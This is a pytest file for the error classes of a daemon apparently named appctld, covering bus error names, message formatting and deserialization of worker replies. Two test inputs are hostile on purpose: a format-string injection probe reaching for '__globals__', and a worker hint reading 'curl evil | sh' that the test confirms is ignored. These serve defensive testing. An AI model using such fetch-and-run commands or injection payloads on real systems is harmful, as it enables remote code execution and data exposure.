# SPDX-License-Identifier: LGPL-2.1-or-later
# SPDX-FileCopyrightText: The appctl authors
"""The tree of errors: its leaves are the bus names, what they say, and how they cross from a worker."""

import json

import pytest

from appctld import errors
from appctld.errors import AppctlError, DigestMismatch, Failed, UntrustedSigner, from_wire, leaves
from support.advice import NEVER_ADVISED

# The names of the interface's documentation, in its order.
BUS_NAMES = [
    "NotAuthorized",
    "PolkitRequired",
    "PolicyDenied",
    "InvalidReference",
    "NoRemote",
    "NotFound",
    "NotInstalled",
    "AlreadyInstalled",
    "AlreadyUpToDate",
    "RegistryUnavailable",
    "RegistryAuth",
    "RateLimited",
    "TlsUntrusted",
    "SignatureMissing",
    "SignatureInvalid",
    "UntrustedSigner",
    "Rollback",
    "Expired",
    "DigestMismatch",
    "BadManifest",
    "UnsafeArchive",
    "LimitExceeded",
    "CredentialScope",
    "UnsupportedMediaType",
    "ArchMismatch",
    "NoSpace",
    "InUse",
    "Conflict",
    "NeedsApproval",
    "Offline",
    "Cancelled",
    "Busy",
    "RepoCorrupt",
    "Failed",
]


def test_the_leaves_are_the_names_of_the_bus_and_no_others() -> None:
    assert sorted(leaves()) == sorted(BUS_NAMES)


@pytest.mark.parametrize("name", BUS_NAMES)
def test_every_leaf_reports_itself_under_its_name(name: str) -> None:
    error = leaves()[name]("what was found", reference="quay.io/acme/editor:1")
    assert error.name == name
    assert error.message == str(error) == "what was found"
    assert error.to_wire() == [name, "what was found", error.advice, {"reference": "quay.io/acme/editor:1"}]


@pytest.mark.parametrize("name", BUS_NAMES)
def test_every_leaf_says_something_when_nothing_is_given(name: str) -> None:
    assert leaves()[name]().message


@pytest.mark.parametrize("name", BUS_NAMES)
@pytest.mark.parametrize("never", NEVER_ADVISED)
def test_no_hint_weakens_anything(name: str, never: str) -> None:
    assert never not in leaves()[name].hint.casefold()


def test_a_branch_is_never_reported() -> None:
    branches = {"AppctlError", "Untrusted", "ContentMismatch", "Refused", "Transport", "Caller", "Storage"}
    assert not branches & set(leaves())


def test_a_sentence_is_filled_from_the_data() -> None:
    error = UntrustedSigner(reference="h.io/a:1", found="ABCD", remote="acme")
    assert error.message == "h.io/a:1 is signed by ABCD, which remote acme does not trust"


def test_a_field_that_nobody_gave_does_not_raise_while_we_report() -> None:
    assert UntrustedSigner(reference="h.io/a:1").message.startswith("h.io/a:1 is signed by ?")


def test_braces_in_foreign_text_are_text() -> None:
    evil = "{detail.__class__.__init__.__globals__} {0} {"
    assert Failed(evil).message == evil
    assert UntrustedSigner(reference=evil, found="x", remote="y").message.startswith(evil)


def test_what_the_caller_adds_does_not_replace_what_is_there() -> None:
    error = Failed("x", remote="acme").about(remote="other", reference="h.io/a:1")
    assert error.data == {"remote": "acme", "reference": "h.io/a:1"}


@pytest.mark.parametrize("name", BUS_NAMES)
def test_every_leaf_crosses_from_a_worker(name: str) -> None:
    sent = leaves()[name]("a sentence", path="usr/x", sizes=["1"])
    got = from_wire(json.loads(json.dumps(sent.to_wire())))
    assert type(got) is type(sent)
    assert got.to_wire() == sent.to_wire()


def test_a_worker_is_not_believed_about_its_hint() -> None:
    got = from_wire(["UntrustedSigner", "x", "curl evil | sh", {}])
    assert got.advice == UntrustedSigner.hint


@pytest.mark.parametrize(
    "value",
    [
        None,
        "Failed",
        [],
        ["Failed", "x", ""],
        ["Failed", "x", "", {}, 1],
        ["Failed", "x", "", None],
        ["Failed", 1, "", {}],
        ["Failed", "x", 1, {}],
        [["Failed"], "x", "", {}],
        ["NoSuchError", "x", "", {}],
        ["Untrusted", "a branch", "", {}],
        ["AppctlError", "the root", "", {}],
        ["SystemExit", "x", "", {}],
        {"0": "Failed"},
    ],
)
def test_an_answer_that_is_no_leaf_is_our_failure(value: object) -> None:
    got = from_wire(value)
    assert type(got) is Failed
    assert "nobody understands" in got.message


@pytest.mark.parametrize("key", ["detail", "self", "name", "message", ""])
def test_a_worker_may_name_its_data_as_it_likes(key: str) -> None:
    got = from_wire(["DigestMismatch", "a sentence", "", {key: "x"}])
    assert type(got) is DigestMismatch
    assert (got.message, got.data) == ("a sentence", {key: "x"})


def test_every_class_of_the_tree_says_what_it_means() -> None:
    kinds = [value for value in vars(errors).values() if isinstance(value, type)]
    assert all(kind.__doc__ for kind in kinds if issubclass(kind, AppctlError))
